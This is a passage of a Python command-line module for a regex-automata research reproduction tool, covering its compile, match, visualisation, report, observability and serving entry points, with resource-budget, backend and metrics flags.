from repro.anml.reader import read_anml
from repro.counting import DEFAULT_MIN_COUNT_BOUND
from repro.engine.dense import DEFAULT_PROMOTE_AFTER
from repro.engine.imfant import IMfantEngine
from repro.engine.lazy import DEFAULT_CACHE_SIZE
from repro.engine.multithread import run_pool
from repro.guard.budget import Budget
from repro.guard.errors import (
    EXIT_PARTIAL,
    ReproError,
    UsageError,
    exit_code_for,
    stage_of,
)
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting import tables
from repro.reporting.experiments import (
    ExperimentConfig,
    experiment_active_sets,
    experiment_compilation_time,
    experiment_compression,
    experiment_dataset_stats,
    experiment_scaling,
    experiment_similarity,
    experiment_throughput,
    scaling_summary,
)


def _guarded(func):
    """The single top-level error handler every entry point runs under:
    a :class:`ReproError` becomes one ``error: <stage>: <message>`` line
    on stderr plus the taxonomy exit code — never a traceback."""

    @functools.wraps(func)
    def wrapper(argv: list[str] | None = None) -> int:
        try:
            return func(argv)
        except ReproError as error:
            print(f"error: {stage_of(error)}: {error}", file=sys.stderr)
            return exit_code_for(error)

    return wrapper


def _read_patterns(path: Path) -> list[str]:
    try:
        text = path.read_text()
    except OSError as exc:
        raise UsageError(f"cannot read ruleset {path}: {exc}") from exc
    patterns = []
    for line in text.splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            patterns.append(line)
    if not patterns:
        raise UsageError(f"no patterns found in {path}")
    return patterns


def _add_guard_flags(parser: argparse.ArgumentParser, degrade: bool = False) -> None:
    group = parser.add_argument_group("resource governance")
    group.add_argument("--budget-states", type=int, default=None, metavar="N",
                       help="max automaton states constructed per compile")
    group.add_argument("--budget-transitions", type=int, default=None, metavar="N",
                       help="max automaton transitions constructed per compile")
    group.add_argument("--budget-loop-copies", type=int, default=None, metavar="N",
                       help="max loop-expansion copies (strict: over-budget "
                            "repeats fail instead of staying compressed)")
    group.add_argument("--budget-memory-mb", type=float, default=None, metavar="MB",
                       help="modelled memory ceiling for construction")
    group.add_argument("--deadline", type=float, default=None, metavar="SECONDS",
                       help="wall-clock deadline (covers the compile; for "
                            "match, also each engine scan)")
    group.add_argument("--on-error", choices=("fail", "quarantine"), default="fail",
                       help="quarantine: isolate failing rules per-rule and "
                            "ship the survivors (exit 3); fail: first error "
                            "aborts (default)")
    if degrade:
        group.add_argument("--degrade", choices=("off", "auto"), default="off",
                           help="auto: step the backend ladder dense->lazy->"
                                "numpy->python on allocation failure / cache "
                                "thrash / failed dense promotion")


def _add_dense_flags(parser: argparse.ArgumentParser) -> None:
    group = parser.add_argument_group("dense backend")
    group.add_argument("--dense-promote-after", type=int, default=None, metavar="BYTES",
                       help="lazy bytes scanned before compiled-table promotion "
                            "(default: %d)" % DEFAULT_PROMOTE_AFTER)
    group.add_argument("--dense-stride", type=int, choices=(1, 2), default=1,
                       help="bytes consumed per compiled-table step; 2 builds "
                            "the byte-pair table (stride 1 usually measures "
                            "faster — see docs/performance.md)")
    group.add_argument("--no-prefilter", dest="dense_prefilter", action="store_false",
                       help="disable the literal skip-ahead prefilter over "
                            "self-loop runs")


def _dense_kwargs(args: argparse.Namespace) -> dict:
    """Engine kwargs from the dense flags (empty off the dense backend,
    so non-dense engines never see unexpected knobs)."""
    if getattr(args, "backend", None) != "dense":
        return {}
    kwargs: dict = {
        "dense_stride": args.dense_stride,
        "dense_prefilter": args.dense_prefilter,
    }
    if args.dense_promote_after is not None:
        kwargs["dense_promote_after"] = args.dense_promote_after
    return kwargs


def _add_counting_flags(parser: argparse.ArgumentParser) -> None:
    group = parser.add_argument_group("counting backend")
    group.add_argument("--count-threshold", type=int, default=None, metavar="N",
                       help="compile {m,n} repeats with max(m,n) >= N as "
                            "counter registers instead of expanded state "
                            "chains (only with --backend counting; "
                            "default: %d)" % DEFAULT_MIN_COUNT_BOUND)


def _counting_options(args: argparse.Namespace) -> dict:
    """CompileOptions kwargs from the counting flags: the counting
    compile path turns on exactly when the counting backend is chosen."""
    kwargs: dict = {"counting": getattr(args, "backend", None) == "counting"}
    if getattr(args, "count_threshold", None) is not None:
        kwargs["count_threshold"] = args.count_threshold
    return kwargs


def _budget_from(args: argparse.Namespace) -> Budget | None:
    """Build a Budget from the guard flags; None when none was given."""
    if (args.budget_states is None and args.budget_transitions is None
            and args.budget_loop_copies is None and args.budget_memory_mb is None
            and args.deadline is None):
        return None
    return Budget(
        max_states=args.budget_states,
        max_transitions=args.budget_transitions,
        max_loop_copies=args.budget_loop_copies,
        max_memory_bytes=(int(args.budget_memory_mb * 1024 * 1024)
                          if args.budget_memory_mb is not None else None),
        deadline=args.deadline,
    )


def _guarded_compile(patterns: list[str], options: CompileOptions,
                     args: argparse.Namespace):
    """Compile under the guard flags; prints the quarantine summary (if
    any) to stderr and returns the :class:`GuardedCompilation`."""
    from repro.guard.compiler import GuardedCompiler

    compiler = GuardedCompiler(options, budget=_budget_from(args),
                               on_error=args.on_error)
    compilation = compiler.compile(patterns)
    for line in compilation.quarantine.summary_lines():
        print(f"warning: {line}", file=sys.stderr)
    return compilation


def _add_obs_flags(parser: argparse.ArgumentParser) -> None:
    group = parser.add_argument_group("observability")
    group.add_argument("--trace-out", type=Path, default=None, metavar="FILE",
                       help="write a Chrome trace-event JSON of the run's spans")
    group.add_argument("--metrics-out", type=Path, default=None, metavar="FILE",
                       help="write the run's metrics in Prometheus text format")
    group.add_argument("--obs-stride", type=int, default=None, metavar="N",
                       help="engine sampling stride (default: %d)" % obs.DEFAULT_SAMPLE_STRIDE)


def _obs_scope(args: argparse.Namespace):
    """A capture scope when any observability flag was given, else no-op."""
    if args.trace_out is None and args.metrics_out is None:
        return contextlib.nullcontext(None)
    return obs.capture(stride=args.obs_stride)


def _export_obs(args: argparse.Namespace, cap: "obs.ObsCapture | None") -> None:
    if cap is None:
        return
    if args.trace_out is not None:
        obs.write_chrome_trace(cap.tracer, args.trace_out)
        print(f"wrote span trace ({len(cap.tracer.spans())} spans) to {args.trace_out}")
    if args.metrics_out is not None:
        obs.write_prometheus(cap.registry, args.metrics_out)
        print(f"wrote {len(cap.registry.instruments())} metric(s) to {args.metrics_out}")


def _merge_lazy_stats(engines) -> dict[str, float]:
    """Sum the per-engine lazy-cache counters into one summary dict."""
    totals = {"hits": 0.0, "misses": 0.0, "evictions": 0.0, "flushes": 0.0}
    for engine in engines:
        cache = getattr(engine, "lazy_cache", None)
        if cache is None:
            continue
        for key in ("hits", "misses", "evictions", "flushes"):
            totals[key] += getattr(cache.stats, key)
    lookups = totals["hits"] + totals["misses"]
    totals["hit_rate"] = totals["hits"] / lookups if lookups else 0.0
    return totals


@_guarded
def compile_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-compile``."""
    parser = argparse.ArgumentParser(
        prog="repro-compile",
        description="Compile a ruleset of POSIX EREs into extended-ANML MFSAs.",
    )
    parser.add_argument("ruleset", type=Path, help="file with one ERE per line ('#' comments)")
    parser.add_argument("-m", "--merging-factor", type=int, default=0,
                        help="group size M; 0 merges the whole ruleset (default)")
    parser.add_argument("-o", "--output-dir", type=Path, default=Path("mfsa_out"),
                        help="directory for the .anml files")
    parser.add_argument("--stratify", action="store_true",
                        help="enable partial character-class merging")
    _add_guard_flags(parser)
    _add_obs_flags(parser)
    args = parser.parse_args(argv)

    patterns = _read_patterns(args.ruleset)
    options = CompileOptions(merging_factor=args.merging_factor,
                             stratify_charclasses=args.stratify)
    with _obs_scope(args) as cap:
        compilation = _guarded_compile(patterns, options, args)
    result = compilation.result
    assert result is not None and result.anml is not None

    args.output_dir.mkdir(parents=True, exist_ok=True)
    for index, document in enumerate(result.anml):
        (args.output_dir / f"mfsa{index}.anml").write_text(document)

    report = result.merge_report
    print(f"compiled {len(result.patterns)} REs into {len(result.mfsas)} MFSA(s)")
    if compilation.partial:
        print(f"quarantined {len(compilation.quarantine)} of {len(patterns)} rule(s); "
              f"survivors shipped")
    print(f"states: {report.input_states} -> {report.output_states} "
          f"({report.state_compression:.2f}% compression)")
    print(f"transitions: {report.input_transitions} -> {report.output_transitions} "
          f"({report.transition_compression:.2f}% compression)")
    print("stage times (s): " + ", ".join(
        f"{name}={seconds:.4f}" for name, seconds in result.stage_times.as_dict().items()))
    print(f"wrote {len(result.anml)} file(s) to {args.output_dir}/")
    _export_obs(args, cap)
    return EXIT_PARTIAL if compilation.partial else 0


@_guarded
def match_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-match``."""
    parser = argparse.ArgumentParser(
        prog="repro-match",
        description="Match an input stream against MFSAs with the iMFAnt engine.",
    )
    parser.add_argument("stream", type=Path, help="input stream file (binary)")
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--mfsa-dir", type=Path, help="directory of .anml MFSAs")
    source.add_argument("--ruleset", type=Path, help="compile this ruleset on the fly")
    parser.add_argument("-m", "--merging-factor", type=int, default=0,
                        help="merging factor when compiling on the fly")
    parser.add_argument("-t", "--threads", type=int, default=1,
                        help="thread-pool size for multi-MFSA execution")
    parser.add_argument("--backend",
                        choices=("python", "numpy", "lazy", "dense", "counting"),
                        default="python")
    parser.add_argument("--lazy-cache-size", type=int, default=None, metavar="N",
                        help="lazy-backend transition-cache budget in entries "
                             "(default: %d)" % DEFAULT_CACHE_SIZE)
    parser.add_argument("--lazy-eviction", choices=("flush", "lru"), default="flush",
                        help="lazy-backend eviction policy when the cache fills")
    _add_dense_flags(parser)
    _add_counting_flags(parser)
    parser.add_argument("--single-match", action="store_true",
                        help="report each rule's first match only (early exit)")
    parser.add_argument("--show-matches", type=int, default=10, metavar="N",
                        help="print the first N matches (0 = none)")
    _add_guard_flags(parser, degrade=True)
    _add_obs_flags(parser)
    args = parser.parse_args(argv)

    quarantined = 0
    with _obs_scope(args) as cap:
        rule_map = None
        quarantine = None
        if args.mfsa_dir is not None:
            files = sorted(args.mfsa_dir.glob("*.anml"))
            if not files:
                raise UsageError(f"no .anml files in {args.mfsa_dir}")
            mfsas = [read_anml(path.read_text()) for path in files]
        else:
            patterns = _read_patterns(args.ruleset)
            compilation = _guarded_compile(
                patterns,
                CompileOptions(merging_factor=args.merging_factor, emit_anml=False,
                               **_counting_options(args)),
                args,
            )
            assert compilation.result is not None
            mfsas = compilation.result.mfsas
            quarantined = len(compilation.quarantine)
            if compilation.partial:
                rule_map = compilation.surviving_ids
                quarantine = compilation.quarantine

        try:
            data = args.stream.read_bytes()
        except OSError as exc:
            raise UsageError(f"cannot read stream {args.stream}: {exc}") from exc
        degradations: list = []
        started = time.perf_counter()
        if args.degrade == "auto" or quarantine is not None:
            from repro.guard.degrade import DegradePolicy, GuardedMatcher

            # with --degrade off, the guarded matcher is only here for
            # quarantine remapping/fallback — freeze the ladder
            policy = None if args.degrade == "auto" else DegradePolicy(
                on_alloc_failure=False, on_cache_thrash=False)
            matcher = GuardedMatcher(
                mfsas,
                rule_map=rule_map,
                quarantine=quarantine,
                backend=args.backend,
                policy=policy,
                scan_deadline=args.deadline,
                threads=args.threads,
                single_match=args.single_match,
                lazy_cache_size=args.lazy_cache_size or DEFAULT_CACHE_SIZE,
                lazy_eviction=args.lazy_eviction,
                dense_promote_after=(args.dense_promote_after
                                     if args.backend == "dense" else None),
            )
            run = matcher.run(data)
            matches, stats = run.matches, run.stats
            degradations = run.degradations
            engines = matcher._ensure_engines()
        else:
            engines = [
                IMfantEngine(mfsa, backend=args.backend, single_match=args.single_match,
                             lazy_cache_size=args.lazy_cache_size or DEFAULT_CACHE_SIZE,
                             lazy_eviction=args.lazy_eviction,
                             scan_deadline=args.deadline, **_dense_kwargs(args))
                for mfsa in mfsas
            ]
            matches, stats = run_pool([lambda e=e: e.run(data) for e in engines], args.threads)
        elapsed = time.perf_counter() - started

    print(f"matched {len(data)} bytes against {len(mfsas)} MFSA(s) "
          f"({sum(len(m.initials) for m in mfsas)} rules) on {args.threads} thread(s)")
    print(f"matches: {len(matches)}   time: {elapsed:.4f}s   "
          f"transitions examined: {stats.transitions_examined}")
    for step in degradations:
        print(f"degraded {step.from_backend} -> {step.to_backend}: {step.reason}")
    if args.backend in ("lazy", "dense") and not degradations:
        totals = _merge_lazy_stats(engines)
        print(f"lazy cache: {totals['hits']:.0f} hits / {totals['misses']:.0f} misses "
              f"({totals['hit_rate']:.1%} hit rate), "
              f"{totals['evictions']:.0f} eviction(s), {totals['flushes']:.0f} flush(es)")
    if args.backend == "dense" and not degradations:
        promoted = sum(1 for e in engines if getattr(e, "dense_tier", None) is not None)
        print(f"dense tier: {promoted}/{len(engines)} engine(s) promoted "
              f"(promotion threshold {args.dense_promote_after or DEFAULT_PROMOTE_AFTER} "
              f"lazy bytes)")
    for rule, end in sorted(matches)[: args.show_matches]:
        print(f"  rule {rule} matched ending at offset {end}")
    _export_obs(args, cap)
    return EXIT_PARTIAL if quarantined else 0


@_guarded
def viz_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-viz``: render a ruleset's automata as DOT."""
    parser = argparse.ArgumentParser(
        prog="repro-viz",
        description="Render a ruleset's FSAs/MFSA as Graphviz DOT files.",
    )
    parser.add_argument("ruleset", type=Path, help="file with one ERE per line")
    parser.add_argument("-m", "--merging-factor", type=int, default=0)
    parser.add_argument("-o", "--output-dir", type=Path, default=Path("dot_out"))
    parser.add_argument("--per-rule", action="store_true",
                        help="also render each rule's optimised FSA")
    args = parser.parse_args(argv)

    from repro.viz import fsa_to_dot, mfsa_to_dot

    patterns = _read_patterns(args.ruleset)
    result = compile_ruleset(patterns, CompileOptions(merging_factor=args.merging_factor,
                                                      emit_anml=False))
    args.output_dir.mkdir(parents=True, exist_ok=True)
    written = 0
    for index, mfsa in enumerate(result.mfsas):
        (args.output_dir / f"mfsa{index}.dot").write_text(mfsa_to_dot(mfsa, f"mfsa{index}"))
        written += 1
    if args.per_rule:
        for rule_id, fsa in enumerate(result.fsas):
            (args.output_dir / f"rule{rule_id}.dot").write_text(
                fsa_to_dot(fsa, f"rule{rule_id}"))
            written += 1
    print(f"wrote {written} DOT file(s) to {args.output_dir}/ "
          f"(render with: dot -Tsvg {args.output_dir}/mfsa0.dot)")
    return 0


@_guarded
def report_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-report``: regenerate tables/figures as text."""
    parser = argparse.ArgumentParser(
        prog="repro-report",
        description="Regenerate the paper's evaluation tables/figures.",
    )
    parser.add_argument("what", choices=("fig1", "table1", "fig7", "fig8", "fig9", "fig10", "table2", "all"))
    parser.add_argument("--scale", type=int, default=6,
                        help="dataset size divisor (1 = paper-scale; default 6)")
    parser.add_argument("--stream-size", type=int, default=4096,
                        help="input stream bytes (paper: 1 MB)")
    parser.add_argument("--export", type=Path, metavar="DIR", default=None,
                        help="additionally write raw CSV series to DIR")
    parser.add_argument("--datasets", type=str, default=None, metavar="ABBRS",
                        help="comma-separated suite subset, e.g. BRO,TCP")
    args = parser.parse_args(argv)
    if args.datasets:
        from repro.datasets import DATASET_PROFILES

        wanted_suites = tuple(s.strip().upper() for s in args.datasets.split(","))
        unknown = [s for s in wanted_suites if s not in DATASET_PROFILES]
        if unknown:
            raise UsageError(f"unknown dataset(s): {', '.join(unknown)}")
        config = ExperimentConfig(scale=args.scale, stream_size=args.stream_size,
                                  datasets=wanted_suites)
    else:
        config = ExperimentConfig(scale=args.scale, stream_size=args.stream_size)

    wanted = [args.what] if args.what != "all" else [
        "fig1", "table1", "fig7", "fig8", "fig9", "fig10", "table2"]
    for item in wanted:
        _REPORTS[item](config)
        print()
    if args.export is not None:
        from repro.reporting.export import export_all

        written = export_all(config, args.export)
        print(f"wrote {len(written)} raw-result files to {args.export}/")
    return 0


def _report_fig1(config: ExperimentConfig) -> None:
    from repro.reporting.plots import bar_chart

    sims = experiment_similarity(config)
    print(bar_chart(sims, title="Fig. 1 — normalised INDEL similarity"))


def _report_table1(config: ExperimentConfig) -> None:
    stats = experiment_dataset_stats(config)
    rows = [
        (abbr, int(s["num_res"]), int(s["total_states"]), int(s["total_transitions"]),
         int(s["total_cc_length"]), s["avg_states"], s["avg_transitions"])
        for abbr, s in stats.items()
    ]
    print(tables.format_table(
        ("Dataset", "#REs", "Tot Q", "Tot T", "Tot CC", "Avg Q", "Avg T"), rows,
        title="Table I — dataset characteristics"))


def _report_fig7(config: ExperimentConfig) -> None:
    data = experiment_compression(config)
    for abbr, per_m in data.items():
        rows = [(_m_label(m), f"{s:.2f}", f"{t:.2f}") for m, (s, t) in per_m.items()]
        print(tables.format_table(("M", "states %", "transitions %"), rows,
                                  title=f"Fig. 7 — compression ({abbr})"))


def _report_fig8(config: ExperimentConfig) -> None:
    data = experiment_compilation_time(config)
    for abbr, per_m in data.items():
        rows = [
            (_m_label(m), *(f"{stage_times[s]*1000:.2f}" for s in ("FE", "AST to FSA", "ME-single", "ME-merging", "BE")))
            for m, stage_times in per_m.items()
        ]
        print(tables.format_table(("M", "FE ms", "AST>FSA ms", "ME-single ms", "ME-merge ms", "BE ms"),
                                  rows, title=f"Fig. 8 — compilation stages ({abbr})"))


def _report_fig9(config: ExperimentConfig) -> None:
    data = experiment_throughput(config)
    for abbr, per_m in data.items():
        rows = [(_m_label(m), f"{row['work']:.0f}", f"{row['improvement']:.2f}x")
                for m, row in per_m.items()]
        print(tables.format_table(("M", "exec work", "throughput vs M=1"), rows,
                                  title=f"Fig. 9 — single-thread execution ({abbr})"))


def _report_fig10(config: ExperimentConfig) -> None:
    from repro.reporting.plots import line_chart

    data = experiment_scaling(config)
    for abbr, per_m in data.items():
        headers = ("M", *(f"T={t}" for t in config.threads))
        rows = [(_m_label(m), *(f"{series[t]:.0f}" for t in config.threads))
                for m, series in per_m.items()]
        summary = scaling_summary(per_m)
        print(tables.format_table(headers, rows, title=f"Fig. 10 — thread scaling ({abbr})"))
        series = {
            f"M={_m_label(m)}": [(math.log2(t), latency) for t, latency in sorted(per_m[m].items())]
            for m in per_m
        }
        print(line_chart(series, title=f"  latency vs log2(threads), log scale ({abbr})",
                         log_y=True))
        print(f"  best M>1 vs best M=1 speedup: {summary['speedup']:.2f}x; "
              f"threads for MFSA to match best single-FSA: "
              f"{summary['mfsa_threads_to_match_single']}")


def _report_table2(config: ExperimentConfig) -> None:
    data = experiment_active_sets(config)
    rows = [(abbr, f"{s['avg_active']:.2f}", int(s["max_active"])) for abbr, s in data.items()]
    print(tables.format_table(("Dataset", "Avg active", "Max active"), rows,
                              title="Table II — active sets during traversal (M=all)"))


def _m_label(m: int) -> str:
    return "all" if m == 0 else str(m)


_REPORTS = {
    "fig1": _report_fig1,
    "table1": _report_table1,
    "fig7": _report_fig7,
    "fig8": _report_fig8,
    "fig9": _report_fig9,
    "fig10": _report_fig10,
    "table2": _report_table2,
}


# ---------------------------------------------------------------------------
# repro obs — capture and pretty-print a run's observability artifacts
# ---------------------------------------------------------------------------


def _demo_stream(patterns: list[str], size: int, seed: int = 1) -> bytes:
    """A deterministic stream mixing ruleset literal material with noise
    (enough match activity to make the runtime histograms interesting)."""
    import random

    rng = random.Random(seed)
    literals = []
    for pattern in patterns:
        core = "".join(ch for ch in pattern if ch.isalnum() or ch in " _-/.:")
        if core:
            literals.append(core)
    alphabet = sorted({ch for lit in literals for ch in lit} | set("abcxyz 01"))
    chunks: list[str] = []
    produced = 0
    while produced < size:
        if literals and rng.random() < 0.3:
            piece = rng.choice(literals)
        else:
            piece = "".join(rng.choice(alphabet) for _ in range(rng.randint(2, 12)))
        chunks.append(piece)
        produced += len(piece)
    return "".join(chunks).encode("latin-1")[:size]


@_guarded
def obs_top_main(argv: list[str] | None = None) -> int:
    """``repro obs top``: live serve-stats console view over the stats op."""
    parser = argparse.ArgumentParser(
        prog="repro-obs top",
        description="One-shot (or --interval N repeated) console view of a "
                    "running repro serve instance: request counters, queue "
                    "depth, and per-phase latency percentiles.",
    )
    parser.add_argument("--socket", type=Path, default=None, metavar="PATH",
                        help="connect to a UNIX socket at PATH")
    parser.add_argument("--host", type=str, default="127.0.0.1")
    parser.add_argument("--port", type=int, default=None, metavar="N")
    parser.add_argument("--interval", type=float, default=None, metavar="SECONDS",
                        help="refresh every N seconds until --count/Ctrl-C "
                             "(default: one snapshot)")
    parser.add_argument("--count", type=int, default=None, metavar="N",
                        help="stop after N snapshots (default: 1 without "
                             "--interval, unlimited with it)")
    args = parser.parse_args(argv)
    if args.interval is not None and args.interval <= 0:
        raise UsageError("--interval must be positive")

    from repro.serve.client import MatchClient

    address = _client_address(args)
    limit = args.count if args.count is not None else (None if args.interval else 1)
    shown = 0
    try:
        while True:
            with MatchClient.connect(address) as client:
                stats = client.stats_full()
            server = stats.get("server", {})
            print(f"-- repro serve @ "
                  f"{address if isinstance(address, str) else ':'.join(map(str, address))} "
                  f"backend={server.get('backend')} mode={server.get('mode')} "
                  f"shards={server.get('shards')}")
            print(f"   requests={server.get('requests_handled', 0)} "
                  f"rejected={server.get('requests_rejected', 0)} "
                  f"partial={server.get('requests_partial', 0)} "
                  f"batches={server.get('batches', 0)} "
                  f"queued={server.get('queued', 0)} "
                  f"degradations={server.get('degradations', 0)}")
            supervisor = server.get("supervisor") or {}
            admission = server.get("admission") or {}
            print(f"   resilience: deduped={server.get('requests_deduped', 0)} "
                  f"shed={admission.get('shed_total', 0)} "
                  f"restarts={supervisor.get('restarts_total', 0)} "
                  f"hangs={supervisor.get('hangs_total', 0)} "
                  f"breaker={'OPEN' if supervisor.get('breaker_open') else 'closed'} "
                  f"reloads={server.get('reload_swaps', 0)}")
            _print_latency_table(stats.get("latency_ms"))
            shown += 1
            if limit is not None and shown >= limit:
                break
            time.sleep(args.interval)
            print()
    except KeyboardInterrupt:
        pass
    return 0


@_guarded
def obs_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-obs`` (also ``repro obs``).

    ``repro obs top …`` dispatches to the live serve-stats view; every
    other invocation runs the capture-compile-match flow below.
    """
    argv = list(sys.argv[1:] if argv is None else argv)
    if argv and argv[0] == "top":
        return obs_top_main(argv[1:])
    parser = argparse.ArgumentParser(
        prog="repro-obs",
        description="Run compile+match with the observability layer on and "
                    "export/pretty-print the captured spans and metrics.",
    )
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--ruleset", type=Path, help="ruleset file, one ERE per line")
    source.add_argument("--builtin", type=str, metavar="NAME",
                        help="curated builtin ruleset (see repro.datasets.list_builtin)")
    parser.add_argument("--stream", type=Path, default=None,
                        help="input stream file (default: generated)")
    parser.add_argument("--stream-size", type=int, default=65536, metavar="BYTES",
                        help="generated stream size (default 64 KiB)")
    parser.add_argument("-m", "--merging-factor", type=int, default=0)
    parser.add_argument("-t", "--threads", type=int, default=1)
    parser.add_argument("--backend",
                        choices=("python", "numpy", "lazy", "dense", "counting"),
                        default="python")
    parser.add_argument("--lazy-cache-size", type=int, default=None, metavar="N",
                        help="lazy-backend transition-cache budget in entries "
                             "(default: %d)" % DEFAULT_CACHE_SIZE)
    parser.add_argument("--lazy-eviction", choices=("flush", "lru"), default="flush",
                        help="lazy-backend eviction policy when the cache fills")
    _add_dense_flags(parser)
    _add_counting_flags(parser)
    parser.add_argument("--stride", type=int, default=None, metavar="N",
                        help="engine sampling stride (default: %d)" % obs.DEFAULT_SAMPLE_STRIDE)
    parser.add_argument("--trace-out", type=Path, default=None, metavar="FILE",
                        help="write the Chrome trace-event JSON here")
    parser.add_argument("--spans-out", type=Path, default=None, metavar="FILE",
                        help="write the JSON-lines span dump here")
    parser.add_argument("--metrics-out", type=Path, default=None, metavar="FILE",
                        help="write the Prometheus text exposition here")
    parser.add_argument("--quiet", action="store_true",
                        help="skip the pretty-printed span tree / metric summary")
    _add_guard_flags(parser)
    args = parser.parse_args(argv)

    if args.builtin is not None:
        from repro.datasets import load_builtin

        try:
            patterns = list(load_builtin(args.builtin).patterns)
        except KeyError as exc:
            raise UsageError(str(exc.args[0])) from exc
    else:
        patterns = _read_patterns(args.ruleset)
    data = args.stream.read_bytes() if args.stream else _demo_stream(patterns, args.stream_size)

    with obs.capture(stride=args.stride) as cap:
        compilation = _guarded_compile(
            patterns,
            CompileOptions(merging_factor=args.merging_factor, emit_anml=True,
                           **_counting_options(args)),
            args,
        )
        result = compilation.result
        assert result is not None
        engines = [
            IMfantEngine(m, backend=args.backend,
                         lazy_cache_size=args.lazy_cache_size or DEFAULT_CACHE_SIZE,
                         lazy_eviction=args.lazy_eviction,
                         scan_deadline=args.deadline, **_dense_kwargs(args))
            for m in result.mfsas
        ]
        matches, stats = run_pool([lambda e=e: e.run(data) for e in engines], args.threads)
    cap.tracer.validate()

    print(f"captured {len(cap.tracer.spans())} span(s) and "
          f"{len(cap.registry.instruments())} metric(s): "
          f"{len(patterns)} rule(s), {len(result.mfsas)} MFSA(s), "
          f"{len(data)} bytes, {len(matches)} match(es)")
    if not args.quiet:
        print()
        print("span tree (wall / cpu):")
        for line in cap.tracer.tree_lines():
            print("  " + line)
        print()
        print("metrics:")
        for inst in cap.registry.instruments():
            snap = inst.snapshot()
            if snap["kind"] == "histogram":
                print(f"  {inst.name}: count={snap['count']} mean={inst.mean:.2f} "
                      f"min={snap['min']} max={snap['max']}")
            else:
                print(f"  {inst.name}: {snap['value']:g}")
    if args.trace_out is not None:
        obs.write_chrome_trace(cap.tracer, args.trace_out)
        print(f"wrote Chrome trace to {args.trace_out} (open in Perfetto)")
    if args.spans_out is not None:
        obs.write_jsonl(cap.tracer, args.spans_out)
        print(f"wrote span JSONL to {args.spans_out}")
    if args.metrics_out is not None:
        obs.write_prometheus(cap.registry, args.metrics_out)
        print(f"wrote Prometheus metrics to {args.metrics_out}")
    return EXIT_PARTIAL if compilation.partial else 0


# ---------------------------------------------------------------------------
# repro serve / repro client — the resident matching service
# ---------------------------------------------------------------------------


def _serve_patterns(args: argparse.Namespace) -> list[str]:
    """Resolve --ruleset/--builtin into the pattern list."""
    if args.builtin is not None:
        from repro.datasets import load_builtin

        try:
            return list(load_builtin(args.builtin).patterns)
        except KeyError as exc:
            raise UsageError(str(exc.args[0])) from exc
    return _read_patterns(args.ruleset)


def _client_address(args: argparse.Namespace):
    if args.socket is not None:
        return str(args.socket)
    if args.port is None:
        raise UsageError("specify --socket PATH or --port N")
    return (args.host, args.port)


def _print_latency_table(latency: dict | None) -> None:
    """Render the stats op's per-phase percentile decomposition."""
    if not latency:
        print("  (no latency percentiles: server metrics disabled or no "
              "requests served yet)")
        return
    header = f"  {'phase':<32} {'count':>8} {'mean':>9} {'p50':>9} {'p90':>9} {'p95':>9} {'p99':>9}  (ms)"
    print(header)
    for name in sorted(latency):
        row = latency[name]
        cells = "".join(
            f" {row.get(key):>9.3f}" if isinstance(row.get(key), (int, float)) else f" {'-':>9}"
            for key in ("mean", "p50", "p90", "p95", "p99")
        )
        print(f"  {name:<32} {row.get('count', 0):>8}{cells}")


@_guarded
def serve_health_main(argv: list[str]) -> int:
    """``repro serve --health``: probe a *running* instance's readiness.

    Exit 0 when the server answers ready, 1 when it answers not-ready
    or cannot be reached — the contract health probes (systemd, k8s,
    load-balancers) want.
    """
    parser = argparse.ArgumentParser(
        prog="repro-serve --health",
        description="Probe a running repro serve instance's health op.",
    )
    parser.add_argument("--socket", type=Path, default=None, metavar="PATH")
    parser.add_argument("--host", type=str, default="127.0.0.1")
    parser.add_argument("--port", type=int, default=None, metavar="N")
    parser.add_argument("--timeout", type=float, default=2.0, metavar="SECONDS",
                        help="probe connect/request timeout (default 2s)")
    parser.add_argument("--quiet", action="store_true",
                        help="no output; exit code only")
    args = parser.parse_args(argv)

    from repro.guard.errors import ConnectionLost
    from repro.serve.client import MatchClient
    from repro.serve.resilience import RetryPolicy

    address = _client_address(args)
    try:
        with MatchClient.connect(
            address, timeout=args.timeout, connect_timeout=args.timeout,
            retry=RetryPolicy.none(),
        ) as client:
            health = client.health()
    except (UsageError, ConnectionLost) as exc:
        if not args.quiet:
            print(f"unhealthy: {exc}")
        return 1
    ready = bool(health.get("ready"))
    if not args.quiet:
        state = "ready" if ready else ("healthy, not ready" if health.get("healthy") else "unhealthy")
        print(f"{state} (code {health.get('code')})")
        for name, ok in sorted((health.get("checks") or {}).items()):
            print(f"  {'ok  ' if ok else 'FAIL'} {name}")
    return 0 if ready else 1


def serve_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro serve``: run the resident matching service
    (or, with ``--health``, probe a running one)."""
    argv = list(sys.argv[1:] if argv is None else argv)
    if "--health" in argv:
        return serve_health_main([item for item in argv if item != "--health"])
    return _serve_run_main(argv)


@_guarded
def _serve_run_main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-serve",
        description="Serve a compiled ruleset over TCP/UNIX socket with a "
                    "sharded worker pool (see docs/serving.md).",
    )
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--ruleset", type=Path, help="ruleset file, one ERE per line")
    source.add_argument("--builtin", type=str, metavar="NAME",
                        help="curated builtin ruleset (see repro.datasets.list_builtin)")
    parser.add_argument("-m", "--merging-factor", type=int, default=0,
                        help="group size M; 0 merges the whole ruleset (default)")
    transport = parser.add_mutually_exclusive_group()
    transport.add_argument("--socket", type=Path, default=None, metavar="PATH",
                           help="serve on a UNIX socket at PATH")
    transport.add_argument("--port", type=int, default=None, metavar="N",
                           help="serve on TCP port N (0 = ephemeral; default)")
    parser.add_argument("--host", type=str, default="127.0.0.1",
                        help="TCP bind address (default 127.0.0.1)")
    sizing = parser.add_argument_group("sizing")
    sizing.add_argument("--shards", type=int, default=2, metavar="N",
                        help="shard-pool workers per payload (default 2)")
    sizing.add_argument("--batch-max", type=int, default=8, metavar="N",
                        help="max requests coalesced per dispatch cycle (default 8)")
    sizing.add_argument("--queue-depth", type=int, default=64, metavar="N",
                        help="bounded request queue; full -> 429-style reject "
                             "(default 64)")
    parser.add_argument("--mode", choices=("thread", "process"), default="thread",
                        help="shard workers in-process (thread) or forked worker "
